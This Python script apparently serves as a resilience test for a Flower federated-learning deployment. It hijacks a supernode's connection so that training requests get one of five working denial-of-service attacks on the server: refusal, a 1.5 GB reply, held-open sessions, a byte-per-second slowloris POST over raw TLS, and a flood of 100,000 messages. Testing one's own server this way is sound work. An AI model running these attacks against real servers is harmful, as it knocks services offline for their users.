"""`flower-supernode` of a keyed site that answers who it is and makes its release, and
attacks when it is to train.

The attack is named in the environment. What it achieved is written beside its log: one
line, when it is over.
"""

import hashlib
import os
import socket
import ssl
import sys
import time
from base64 import b64encode
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from itertools import pairwise
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
from flwr.app import Error, Message
from flwr.app.message import make_message
from flwr.common.constant import TIMESTAMP_HEADER
from flwr.proto.message_pb2 import ObjectTree
from flwr.supercore.constant import (
    FLEET_HTTP_PUBLIC_KEY_HEADER,
    FLEET_HTTP_SIGNATURE_HEADER,
)
from flwr.supercore.date import now
from flwr.supercore.inflatable.inflatable_object import get_object_tree
from flwr.supercore.primitives.asymmetric import public_key_to_bytes, sign_message
from flwr.supernode import start_client_internal as internal
from flwr.supernode.cli.flower_supernode import flower_supernode

from fedaux.deploy.certificates import load_key

# in the environment
ATTACK, REPORT, SIZE = "HOSTILE_ATTACK", "HOSTILE_REPORT", "HOSTILE_SIZE"
# bytes of an object: 200 of them are 1.5 GB, and no more parts than a reply may have
PART = 7_500_000
Send = Callable[[Message, ObjectTree, float], tuple[set[str], str]]
Push = Callable[[int, str, str, bytes], None]


def part(number: int) -> tuple[str, bytes]:
    """An object that Flower takes, and its id."""
    body = number.to_bytes(8, "big") + bytes(PART - 8)
    content = f"ArrayChunk  {len(body)}".encode() + b"\x00" + body
    return hashlib.sha256(content).hexdigest(), content


def quiet(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
    """An error instead of a reply: what a round is without this site."""
    made = make_message(metadata=message.metadata, error=Error(2, "failed"))
    made.metadata.__dict__["_message_id"] = made.object_id
    wanted, session = send(made, get_object_tree(made), 0.0)
    for name in wanted:
        push(message.metadata.run_id, session, name, made.deflate())
    return "said no"


def large(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
    """A reply of so many bytes."""
    numbers, sent = range(int(float(os.environ.get(SIZE, "1.5e9"))) // PART), 0
    leaves = [ObjectTree(object_id=part(number)[0]) for number in numbers]
    try:
        wanted, session = send(
            message, ObjectTree(object_id=tree.object_id, children=leaves), 0.0
        )
        for number in numbers:
            name, content = part(number)
            if name in wanted:
                push(message.metadata.run_id, session, name, content)
                sent += len(content)
    except httpx.HTTPError as error:
        return f"{sent / 1e6:.0f} MB were taken, then {error}"
    return f"{sent / 1e6:.0f} MB were taken"


def drip(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
    """A reply that is begun and never completed: its session is kept open for as long
    as it is let.
    """
    number, (_, session) = 0, send(message, tree, 0.0)
    try:
        for number in range(1000):
            time.sleep(5)
            push(message.metadata.run_id, session, part(number)[0], b"x")
    except Exception as error:  # Flower has many for an object that is not taken
        return f"{number} drops, then {error}"
    return f"{number} drops"


def bytewise(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
    """A reply is begun, and of its objects a byte comes a second, on eight connections,
    for four minutes.
    """
    send(message, tree, 0.0)
    begun, options = time.monotonic(), dict(pairwise(sys.argv))
    host, _, port = options["--superlink"].rpartition(":")
    context = ssl.create_default_context(cafile=options["--root-certificates"])
    key = load_key(Path(options["--auth-supernode-private-key"]))

    def one(number: int) -> int:
        """Seconds until the server hangs up, or answers."""
        stamp, sent = now().isoformat(), 0
        shown = {
            FLEET_HTTP_PUBLIC_KEY_HEADER: b64encode(
                public_key_to_bytes(key.public_key())
            ).decode(),
            TIMESTAMP_HEADER: stamp,
            FLEET_HTTP_SIGNATURE_HEADER: b64encode(
                sign_message(key, stamp.encode())
            ).decode(),
            "Host": host,
            "Content-Type": "application/protobuf",
            "Content-Length": "1000000",
        }
        head = [
            "POST /v1/fleet/push-object HTTP/1.1",
            *(f"{name}: {value}" for name, value in shown.items()),
        ]
        plain = socket.create_connection((host, int(port)), 10)
        with context.wrap_socket(plain, server_hostname=host) as made:
            made.sendall("\r\n".join([*head, "", ""]).encode())
            made.settimeout(1.0)
            while sent < 240:
                try:
                    made.sendall(b"x")
                    sent += 1
                    made.recv(1)
                    break
                except TimeoutError:
                    continue
                except OSError:
                    break
        return round(time.monotonic() - begun)

    with ThreadPoolExecutor(8) as pool:
        return f"ended after {sorted(pool.map(one, range(8)))} s"


def many(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
    """Up to 10⁵ small replies, as fast as eight connections can in a minute."""
    begun, answers = time.monotonic(), {"taken": 0, "refused": 0}

    def one(number: int) -> None:
        if time.monotonic() - begun > 60:
            return
        made = make_message(metadata=message.metadata, error=Error(number, "small"))
        made.metadata.__dict__["_message_id"] = made.object_id
        try:
            send(made, get_object_tree(made), 0.0)
            answers["taken"] += 1
        except httpx.HTTPError:
            answers["refused"] += 1

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(one, range(10**5)))
    return f"{answers} in {time.monotonic() - begun:.0f} s"


ATTACKS = {attack.__name__: attack for attack in (quiet, large, drip, bytewise, many)}


@contextmanager
def hostile(**options: Any) -> Iterator[tuple[Any, ...]]:
    attack = ATTACKS[os.environ[ATTACK]]
    with connect(**options) as (
        node,
        receive,
        send,
        get_run,
        get_fab,
        pull,
        push,
        confirm,
    ):

        def attacking(
            message: Message, tree: ObjectTree, seconds: float
        ) -> tuple[set[str], str]:
            if message.metadata.message_type != "train":
                return send(message, tree, seconds)  # type: ignore[no-any-return]
            told = attack(message, tree, send, push)
            with Path(os.environ[REPORT]).open("a") as file:
                file.write(f"{attack.__name__}: {told}\n")
            return set(), ""

        yield node, receive, attacking, get_run, get_fab, pull, push, confirm


if __name__ == "__main__":
    connect = internal._init_connection
    internal._init_connection = hostile
    internal.time = SimpleNamespace(sleep=lambda seconds: time.sleep(min(seconds, 1.0)))  # type: ignore[assignment]
    flower_supernode()
